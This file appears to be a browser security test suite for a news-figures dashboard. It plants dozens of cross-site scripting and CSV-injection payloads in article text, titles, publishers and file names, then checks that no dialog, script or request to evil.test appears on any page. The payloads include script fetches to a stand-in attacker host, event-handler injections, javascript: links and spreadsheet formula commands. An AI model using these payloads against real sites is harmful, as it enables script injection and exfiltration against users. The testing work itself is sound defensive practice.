"""Script payloads in article text, titles, publishers and file names, viewed on every page of the real app.

Requirement: "articles whose text, title and file name carry script payloads (at least 20 variants) are
added and viewed on every page; no dialog opens, no script element is added, no request leaves for the
payload's address."

Each payload variant ``n`` points at its own address (``http://evil.test/<n>``) and calls ``alert(<n>)``,
so a request or a dialog names the variant that got through. Articles get into the library three ways:

* the library API (``add_files`` with hostile ``(name, bytes)`` pairs), which is what the Add page and
  the CLI call. It refuses plain text holding markup a browser would run (``<script``, ``<img``,
  ``on...=``, ``](javascript:``); those articles are then copied straight into the articles folder, the
  way the empty-library message tells users to add files, so the pages still have to show them safely;
* the Add page in the browser: the paste form (payloads in text, title, publisher, link) and the
  Upload tab (hostile file names, an HTML page full of scripts).
"""

from __future__ import annotations

import csv
import io
import time
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote_plus

import pytest
import yaml

from dashboard import schema
from dashboard.ingest.articles import safe_article_id
from dashboard.tables.library import add_files
from tests.browser.conftest import open_page, seed_data_dir, wait_for_app

REPO = Path(__file__).resolve().parents[2]
EVIL = "evil."  # evil.test and evil.invalid: no request URL may contain it
# The Overview twice more: with its passage cards and table open, and on its map's tab (none is drawn at start);
# the chart pages' other tabs and the cards behind their expander, also built only when open
PAGES = ["", "?passages=true&table=true", "?chart=World+map", "troops", "troops?chart=Map&passages=true",
         "troops?chart=Over+time", "active", "active?chart=Over+time&passages=true", "budgets",
         "budgets?chart=Share+of+GDP&passages=true", "budgets?chart=Changes", "sources", "data",
         "review", "add"]

# (variant, template): "{n}" becomes the variant's number, in its address and in its alert().
PAYLOADS: list[tuple[str, str]] = [
    ("script-fetch", "<script>fetch('http://evil.test/{n}');alert({n})</script>"),
    ("script-src", '<script src="http://evil.test/{n}.js"></script>'),
    ("img-onerror", "<img src=x onerror=\"fetch('http://evil.test/{n}');alert({n})\">"),
    ("img-src", '<img src="http://evil.test/{n}.png">'),
    ("svg-onload", '<svg onload="alert({n})"><image href="http://evil.test/{n}.svg"/></svg>'),
    ("a-javascript", '<a href="javascript:alert({n})">read more</a>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert({n})</script>" src="http://evil.test/{n}"></iframe>'),
    ("md-javascript-link", "[click me](javascript:alert({n})) ![pixel](http://evil.test/{n}.png)"),
    ("st-directives", ":red[alert({n})] :orange-background[**loud**] :material/warning: :blue-badge[evil.test/{n}]"),
    ("latex", "$\\href{javascript:alert({n})}{x}$ $$\\url{http://evil.test/{n}}$$ $\\textcolor{red}{x}$"),
    ("html-entities", "&lt;script&gt;alert({n})&lt;/script&gt; &#60;img src=http://evil.test/{n}.png&#62;"),
    ("a-http", "<a href=http://evil.test/{n}>official source</a>"),
    ("plotly-tags", '<b>bold</b> <i>it</i> <br> <span style="background:url(http://evil.test/{n}.png)">styled</span>'
                    " <sup>alert({n})</sup>"),
    ("attribute-breakout", '"><script>alert({n})</script><x y="'),
    ("js-string-breakout", "';alert({n});//\";alert({n});//</script>"),
    ("rtl-override", "\u202eexe.{n}txt \u2066alert({n})\u2069 evil.test/{n}"),
    ("csv-hyperlink", '=HYPERLINK("http://evil.test/{n}","click")'),
    ("csv-plus-at", "+cmd|' /C calc'!A{n} @SUM(1+{n}) -2+3 evil.test/{n}"),
    ("style-import", "<style>@import 'http://evil.test/{n}.css';</style>"),
    ("object-embed", '<object data="http://evil.test/{n}.swf"></object><embed src="http://evil.test/{n}.swf">'),
    ("mxss-math", "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>"),
    ("details-ontoggle", "<details open ontoggle=alert({n})>evil.test/{n}</details>"),
    ("input-autofocus", "<input autofocus onfocus=alert({n})> evil.test/{n}"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://evil.test/{n}">'),
    ("base-href", '<base href="http://evil.test/{n}/">'),
    ("md-autolinks", "<http://evil.test/{n}> <javascript:alert({n})> www.evil.test/{n}"),
    ("md-data-and-mixed-case", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
                               "[y](JaVaScRiPt:alert({n})) evil.test/{n}"),
    ("template-injection", "{{7*7}} ${alert({n})} #{alert({n})} evil.test/{n}"),
    ("url-encoded", "%3Cscript%3Ealert({n})%3C/script%3E evil.test/{n}"),
    ("code-spans", "`<script>alert({n})</script>` ```<img src=x onerror=alert({n})>```"),
    ("media-onerror", '<video><source onerror="alert({n})"></video><audio src="http://evil.test/{n}.mp3">'),
    ("form-action", '<form action="http://evil.test/{n}"><button formaction="javascript:alert({n})">go</button></form>'),
    ("link-stylesheet", '<link rel=stylesheet href="http://evil.test/{n}.css">'),
    ("fullwidth-lookalike", "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e evil.test/{n}"),
    ("html-comment", "<!-- --><script>alert({n})</script><!-- -->"),
    ("div-onmouseover", "<div onmouseover=alert({n})>hover me</div> evil.test/{n}"),
]


def payload(i: int) -> str:
    """Variant ``i`` (0-based) with its number ``i + 1`` filled in."""
    return PAYLOADS[i][1].replace("{n}", str(i + 1))


def figure_sentences(i: int) -> tuple[str, str]:
    """Two sentences with figures, varied so every chart gets hostile passages and every text is unique."""
    n = i + 1
    kinds = [
        (f"About {30 + n},000 U.S. troops are stationed in Germany.", f"France has {200 + n},000 active military "
                                                                      "personnel."),
        (f"Poland's armed forces have {150 + n},000 active personnel.",
         f"Germany approved a defense budget of {50 + n}.4 billion euros for 2025."),
        (f"The U.S. keeps {n},100 troops in Romania.", f"Japan will raise its defense budget by {n}.5% in 2026."),
        (f"Some {n},200 British troops are deployed in Estonia.",
         f"South Korea set a defense budget of {60 + n}.7 trillion won for 2026."),
    ]
    return kinds[i % len(kinds)]


def front_matter(meta: dict[str, str]) -> str:
    return "---\n" + yaml.safe_dump(meta, sort_keys=False, allow_unicode=True, width=1_000_000) + "---\n"


@dataclass
class Planted:
    n: int
    variant: str
    payload: str
    article_id: str
    via: str  # "api" or "folder"


def plant_library(data: Path) -> list[Planted]:
    """Every payload in one article (text twice, title, publisher, file name); API first, folder if refused."""
    articles = data / "articles"
    planted: list[Planted] = []
    start = date(2025, 12, 1)
    for i, (variant, _) in enumerate(PAYLOADS):
        p, n = payload(i), i + 1
        first, second = figure_sentences(i)
        meta = {"title": f"{p} report {n}", "publisher": payload((i + 7) % len(PAYLOADS))[:60],
                "published": (start + timedelta(days=i)).isoformat(),
                "url": f"https://example.test/{n}?q=\"><script>alert({n})</script>"}
        content = (front_matter(meta) + f"{p} {first}\n\n{second} {p}\n").encode("utf-8")
        name = f"{p}.txt"
        [result] = add_files([(name, content)], data=data)
        # A .txt that quotes markup is stored as text (issue 9 item 8), so every payload goes in through the API;
        # a few also go straight into the folder under their hostile file name, as a user might drop them.
        assert result.ok, (variant, result.error)
        planted.append(Planted(n, variant, p, result.path.stem, "api"))
        if i < 4:
            # No file system takes "/" in a name; everything else of the hostile name is kept.
            on_disk = f"{n:02d} {name}".replace("/", "\u2215")
            (articles / on_disk).write_bytes(content.replace(f"report {n}".encode(), f"report {n + 100}".encode()))
            planted.append(Planted(n + 100, variant, p, safe_article_id(Path(on_disk).stem), "folder"))
    # Two HTML pages through the API: the loader strips their scripts; their titles keep the payload.
    for n, p in ((90, payload(0).replace("1", "90")), (91, payload(2).replace("3", "91"))):
        page = (f"<html><head><title>{p} page {n}</title><script>alert({n})</script></head><body><article>"
                f"<h1>{p} page {n}</h1><p>{p} Some {n},000 U.S. troops are stationed in Japan, officials said "
                f"on Monday in a statement to lawmakers.</p><iframe src='http://evil.test/{n}'></iframe>"
                f"<img src=x onerror='alert({n})'><p>The deployment <a href='javascript:alert({n})'>still "
                f"needs</a> the approval of parliament, the ministry said.</p></article></body></html>")
        [result] = add_files([(f"<svg onload=alert({n})>.html", page.encode())], data=data)
        assert result.ok, result.error
        planted.append(Planted(n, "html-page", p, result.path.stem, "api"))
    return planted


@pytest.fixture
def app_data_dir(tmp_path_factory) -> Path:
    """The seed article plus one hostile article per payload variant (see plant_library)."""
    return seed_data_dir(tmp_path_factory, "xss-data")


# --------------------------------------------------------------------------
# What the page must never contain
# --------------------------------------------------------------------------

# Every finding is a string naming the element; the test collects them all and fails once.
SCAN_JS = r"""() => {
  const hostile = /evil|alert/i;
  const unsafeUrl = v => /^(javascript|vbscript|data):/i.test(v.replace(/[\s\x00-\x1f]/g, ''));
  const urlAttrs = ['xlink:href', 'src', 'srcdoc', 'action', 'formaction', 'data', 'poster', 'background', 'style',
                    'srcset'];
  const found = [], autolinks = [];
  const scripts = [...document.querySelectorAll('script')];
  for (const s of scripts) {
    if (hostile.test((s.textContent || '') + ' ' + (s.getAttribute('src') || ''))) found.push('script: ' + s.outerHTML.slice(0, 160));
  }
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if ((name.startsWith('on') && hostile.test(a.value)) || (urlAttrs.includes(name) && /evil|alert\(/i.test(a.value))) {
        found.push(`${el.tagName}[${name}=${a.value.slice(0, 80)}]`);
      }
    }
  }
  for (const a of document.querySelectorAll('a[href], area[href]')) {
    const href = a.getAttribute('href');
    if (unsafeUrl(href)) found.push('link: ' + a.outerHTML.slice(0, 160));
    else if (/evil|alert\(/i.test(href)) {
      // A bare URL that markdown turned into a link shows its own address; anything else is injected markup.
      const bare = v => { try { v = decodeURI(v); } catch (e) {} return v.replace(/^(https?:\/\/|mailto:)/i, ''); };
      const shown = (a.textContent || '').trim();
      (shown && bare(href) === bare(shown) ? autolinks : found).push('link: ' + a.outerHTML.slice(0, 160));
    }
  }
  // The app draws no frames, media, forms or formulas: any of these came from article text
  // (<math> is also what KaTeX draws, so it catches text rendered as LaTeX).
  for (const sel of ['iframe', 'frame', 'object', 'embed', 'base', 'meta[http-equiv]', 'form[action]', 'input[autofocus]',
                     'video', 'audio', 'math', 'mglyph', '[data-testid="stMain"] img[src="x"]']) {
    for (const el of document.querySelectorAll(sel)) found.push('element: ' + el.outerHTML.slice(0, 160));
  }
  return {found, autolinks, scripts: scripts.length};
}"""


def scan(page: Any, where: str, findings: list[str], autolinks: list[str] | None = None) -> int:
    """Record every hostile element on the page; return the number of script elements.

    Links that markdown made of a bare address in the text (their text is their address) go to
    ``autolinks`` instead: see test_bare_addresses_in_article_text_do_not_become_links.
    """
    result = page.evaluate(SCAN_JS)
    findings.extend(f"{where}: {f}" for f in result["found"])
    if autolinks is not None:
        autolinks.extend(f"{where}: {f}" for f in result["autolinks"])
    return result["scripts"]




def main_text(page: Any) -> str:
    return page.locator('[data-testid="stMain"]').inner_text().replace(WORD_JOINER, "")


def wait_for_visible_text(page: Any, text: str, timeout: float = 60_000) -> None:
    """Wait until the main area shows ``text`` as a reader sees it (word joiners ignored)."""
    page.wait_for_function("t => document.querySelector('[data-testid=\"stMain\"]').innerText"
                           ".replaceAll('\\u2060', '').includes(t)", arg=text, timeout=timeout)


WORD_JOINER = "\u2060"  # md_escape puts one inside bare addresses so markdown cannot link them


def flat(text: str) -> str:
    """Whitespace collapsed and word joiners dropped: the text as a reader sees it."""
    return " ".join(text.replace(WORD_JOINER, "").split())


def hover_points(page: Any, selector: str, limit: int = 4) -> list[str]:
    """Hover the first few chart points matching ``selector``; return each hover label's text."""
    texts = []
    points = page.locator(selector)
    for k in range(min(points.count(), limit)):
        box = points.nth(k).bounding_box()
        if not box:
            continue
        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        try:
            page.wait_for_selector(".hoverlayer .hovertext", timeout=10_000)
        except Exception:  # noqa: BLE001 - a point hidden under another has no label of its own
            continue
        texts.append(" ".join(t or "" for t in page.locator(".hoverlayer").all_text_contents()))
        page.mouse.move(5, 5)
    return texts


def add_via_paste(page: Any, base: str, findings: list[str]) -> str:
    """Paste an article whose text, title, publisher and link carry payloads; preview; save. Return its title."""
    n = 60
    title = f'<script>alert({n})</script><img src=x onerror=alert({n})> "pasted" :red[title] $x$ {n}'
    text = (f'<a href="javascript:alert({n})">Officials</a> said :red[alert({n})] $\\href{{javascript:alert({n})}}'
            f"{{x}}$ &lt;script&gt;alert({n})&lt;/script&gt; that {n},300 U.S. troops are stationed in Poland.\n\n"
            f'=HYPERLINK("http://evil.test/{n}") Poland\'s armed forces have 199,{n} active personnel.\n')
    open_page(page, base, "add")
    form = page.locator('[data-testid="stForm"]').first
    form.get_by_label("Article text").fill(text)
    form.get_by_label("Title").fill(title)
    form.get_by_label("Publisher").fill(f"<b onmouseover=alert({n})>Wire</b> [p](http://evil.test/{n})")
    form.get_by_label("Link (http or https)").fill(f'https://example.test/{n}?q="><script>alert({n})</script>')
    form.get_by_role("button", name="Preview figures").click()
    page.get_by_role("button", name="Save to the library").wait_for()
    wait_for_app(page)
    shown = flat(main_text(page))
    assert flat(title) in shown, "the pasted title shows literally in the preview"
    assert f"alert({n})</script>" in shown
    scan(page, "add: paste preview", findings)
    page.get_by_role("button", name="Save to the library").click()
    page.locator('[data-testid="stAlertContentSuccess"]').filter(has_text="Saved as").wait_for()
    wait_for_app(page)
    scan(page, "add: paste saved", findings)
    return title


def add_via_upload(page: Any, base: str, data: Path, findings: list[str], screenshot: Any) -> list[str]:
    """Upload a text file and an HTML page with hostile file names; preview; save both. Return the names."""
    files = [
        {"name": '"><img src=x onerror=alert(70)>![p](http://evil.test/70.png):red[x].txt', "mimeType": "text/plain",
         "buffer": (b":red[alert(70)] $\\textcolor{red}{x}$ Some 2,470 British troops are deployed in Estonia "
                    b"&lt;img src=x onerror=alert(70)&gt;.\n")},
        {"name": "<svg onload=alert(71)>\u202egpj.html", "mimeType": "text/html",
         "buffer": (b"<html><head><title><script>alert(71)</script> upload 71</title>"
                    b"<script src='http://evil.test/71.js'></script></head><body><article><p>"
                    b"<img src=x onerror=alert(71)>About 2,710 U.S. troops are stationed in Italy, officials said "
                    b"on Monday in a statement to lawmakers in Rome.</p><iframe src='http://evil.test/71'></iframe>"
                    b"</article></body></html>")},
    ]
    open_page(page, base, "add")
    page.get_by_role("tab", name="Upload files").click()
    page.locator('[data-testid="stFileUploader"] input[type="file"]').set_input_files(files)
    page.get_by_role("button", name="Preview figures").wait_for()
    wait_for_app(page)
    page.get_by_role("button", name="Preview figures").click()
    saves = page.get_by_role("button", name="Save to the library")
    saves.nth(1).wait_for()
    wait_for_app(page)
    scan(page, "add: upload preview", findings)
    screenshot(page, "xss-upload-preview")
    folder = data / "articles"
    # each upload's own file, by a piece of the name the app gives it (a count of files raced with the save of an
    # earlier step landing late: CI once saw two files arrive while the second upload was awaited)
    marks = ("red-x", "upload-71")
    for k in range(2):  # one Save button per file
        saves.nth(k).click()
        deadline = time.monotonic() + 60  # a hang guard: the loop ends as soon as the file is there
        while not [p for p in folder.iterdir() if marks[k] in p.name] and time.monotonic() < deadline:
            time.sleep(0.1)
        assert len([p for p in folder.iterdir() if marks[k] in p.name]) == 1, f"upload {k} was saved"
        page.locator('[data-testid="stAlertContentSuccess"]').filter(has_text="Saved as").first.wait_for()
        wait_for_app(page)
        scan(page, "add: upload saved", findings)
    return [f["name"] for f in files]


# --------------------------------------------------------------------------
# The test
# --------------------------------------------------------------------------


def test_script_payloads_stay_text_on_every_page(app_data_dir, app_server_factory, browser_page, screenshot,
                                                 assert_all_local):
    """>= 20 payload variants in text, titles, publishers and file names: no dialog, script, link or request."""
    planted = plant_library(app_data_dir)
    assert len(PAYLOADS) >= 20
    assert {p.via for p in planted} == {"api", "folder"}, "some payloads go through the API, some only the folder"
    server = app_server_factory(app_data_dir)
    page = browser_page
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(f"{d.type}: {d.message}"), d.dismiss()))
    findings: list[str] = []

    # 1. more hostile articles through the Add page: paste and upload
    pasted_title = add_via_paste(page, server.url, findings)
    add_via_upload(page, server.url, app_data_dir, findings, screenshot)

    # 2. every page; the script count is the app's own and must not grow
    script_counts: dict[str, int] = {}
    hovers: list[str] = []
    for path in PAGES:
        open_page(page, server.url, path)
        assert page.locator('[data-testid="stException"]').count() == 0, path
        script_counts[path or "overview"] = scan(page, f"/{path}", findings)
        points = {"troops": ".barlayer .point path", "active": ".scatterlayer .point",
                  "budgets": ".scatterlayer .point"}.get(path)
        if points:
            hovers += hover_points(page, f".js-plotly-plot {points}", limit=5 if path == "troops" else 4)
            scan(page, f"/{path} after hovering", findings)
        screenshot(page, f"xss-page-{path or 'overview'}")
    first = script_counts["overview"]
    assert all(c <= first for c in script_counts.values()), script_counts

    # the hover labels show the payloads as text (Plotly would have turned <b>, <a> and <br> into markup)
    hover_text = " ".join(hovers)
    assert hovers and ("<script>" in hover_text or "<img" in hover_text), hovers

    # 3. Sources: read hostile articles; their clean text shows the payload literally
    open_page(page, server.url, "sources")
    picker = page.locator('[data-testid="stSelectbox"]').filter(has_text="Read an article")
    to_read = [p for p in planted if p.variant in ("script-fetch", "img-onerror", "md-javascript-link", "latex",
                                                   "html-entities", "attribute-breakout", "st-directives")]
    for k, art in enumerate(to_read):
        picker.click()
        page.keyboard.type(art.article_id)
        page.keyboard.press("Enter")
        page.wait_for_url(lambda url, a=art: f"article={a.article_id}" in unquote_plus(url), timeout=60_000)
        page.wait_for_function("n => document.querySelector('[data-testid=\"stMain\"]').innerText"
                               ".includes(`report ${n} \u00b7`)", arg=art.n, timeout=60_000)  # its source line
        wait_for_app(page)
        text = flat(main_text(page))
        scan(page, f"/sources?article={art.article_id}", findings)
        if art.variant != "html-entities":
            assert flat(art.payload) in text, f"{art.variant} shows literally on Sources"
        else:
            assert f"&lt;script&gt;alert({art.n})&lt;/script&gt;" in text  # entities are not decoded either
        if k == 0:
            screenshot(page, "xss-sources-script-article")
    picker.click()  # the article pasted in the browser: its title shows literally in its source lines
    page.keyboard.type('"pasted"')
    page.keyboard.press("Enter")
    wait_for_visible_text(page, flat(pasted_title) + " \u00b7", timeout=60_000)
    wait_for_app(page)
    scan(page, "/sources, the pasted article", findings)
    screenshot(page, "xss-sources-pasted-article")

    # 4. Review: pick a hostile figure; its summary, passage and source line stay text
    open_page(page, server.url, "review")
    page.locator('[data-testid="stSelectbox"]').filter(has_text="Figure to review").click()
    page.keyboard.type("31,000")  # variant 1's troops figure
    page.keyboard.press("Enter")
    wait_for_visible_text(page, "fetch('http://evil.test/1')")
    wait_for_app(page)
    scan(page, "/review with a hostile figure", findings)
    screenshot(page, "xss-review-hostile-figure")

    # 5. the Data page CSV: every text cell a spreadsheet would run is neutralised
    open_page(page, server.url, "data")
    with page.expect_download() as info:
        page.get_by_role("button", name="Download these").click()
    rows = list(csv.DictReader(io.StringIO(Path(info.value.path()).read_text(encoding="utf-8"))))
    numeric = {c.name for c in schema.FIGURE_COLUMNS if c.dtype != "string"}
    text_cells = [(col, cell) for r in rows for col, cell in r.items() if col not in numeric and cell]
    live = [(col, cell[:60]) for col, cell in text_cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not live, f"formula cells a spreadsheet would run: {live}"
    neutralised = {cell[:2] for _, cell in text_cells if cell.startswith("'")}
    assert {"'=", "'+"} <= neutralised, neutralised  # the payloads were there, and got their apostrophe
    assert any(r["title"].startswith("'=HYPERLINK") for r in rows)
    assert any(r["passage"].startswith("'=HYPERLINK") for r in rows)

    # 6. the verdict
    assert not dialogs, f"dialogs opened: {dialogs}"
    assert not findings, "hostile markup in the page:\n  " + "\n  ".join(dict.fromkeys(findings))
    evil = [u for u in page.requests_seen if EVIL in u]
    assert not evil, f"requests to payload addresses: {evil}"
    assert_all_local(page.requests_seen)


# --------------------------------------------------------------------------
# Known app bugs, pinned
# --------------------------------------------------------------------------


def test_refused_names_and_links_show_literally_on_the_add_page(app_server, browser_page, screenshot):
    """Add page: a refused upload's file name and a refused link are shown as text, and fetch nothing."""
    page = browser_page
    open_page(page, app_server, "add")
    form = page.locator('[data-testid="stForm"]').first
    form.get_by_label("Article text").fill("Some 2,800 U.S. troops are stationed in Romania, officials said.")
    link = "![x](http://evil.test/80.png) [y](javascript:alert(80))"
    form.get_by_label("Link (http or https)").fill(link)
    form.get_by_role("button", name="Preview figures").click()
    page.locator('[data-testid="stAlertContentError"]').first.wait_for()
    wait_for_app(page)
    page.wait_for_timeout(500)  # let an injected image start loading
    link_errors = flat(" ".join(page.locator('[data-testid="stAlertContentError"]').all_inner_texts()))
    assert link in link_errors, link_errors
    name = "![p](http://evil.test/81.png)<b>x</b>.txt"
    page.get_by_role("tab", name="Upload files").click()
    page.locator('[data-testid="stFileUploader"] input[type="file"]').set_input_files(
        # binary content: refused (a .txt quoting markup is now stored as text, issue 9 item 8), so its name shows in an error
        [{"name": name, "mimeType": "text/plain", "buffer": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64}])
    page.get_by_role("button", name="Preview figures").wait_for()
    wait_for_app(page)
    page.get_by_role("button", name="Preview figures").click()
    page.locator('[data-testid="stAlertContentError"]').filter(has_text="evil.test/81").wait_for()
    wait_for_app(page)
    page.wait_for_timeout(500)  # let an injected image start loading
    screenshot(page, "xss-add-refusals")
    errors = flat(" ".join(page.locator('[data-testid="stAlertContentError"]').all_inner_texts()))
    evil = [u for u in page.requests_seen if EVIL in u]
    assert not evil, f"requests to payload addresses: {evil}"
    assert flat(name) in errors, errors


def test_bare_addresses_in_article_text_do_not_become_links(app_data_dir, app_server_factory, browser_page):
    """Passages: an address written in an article shows as text, not as a link (md_escape promises no links)."""
    (app_data_dir / "articles" / "bare-links.txt").write_text(
        "---\ntitle: Bare links www.evil.test/92\npublisher: ops@evil.test\npublished: 2025-12-01\n---\n"
        "Officials cited http://evil.test/90 and www.evil.test/91: about 2,900 U.S. troops are stationed in Japan.\n",
        encoding="utf-8")
    server = app_server_factory(app_data_dir)
    page = browser_page
    open_page(page, server.url, "troops")
    wait_for_visible_text(page, "http://evil.test/90")
    links = page.evaluate("() => [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))"
                          ".filter(h => h.includes('evil'))")
    assert not links, f"article text became links: {links}"
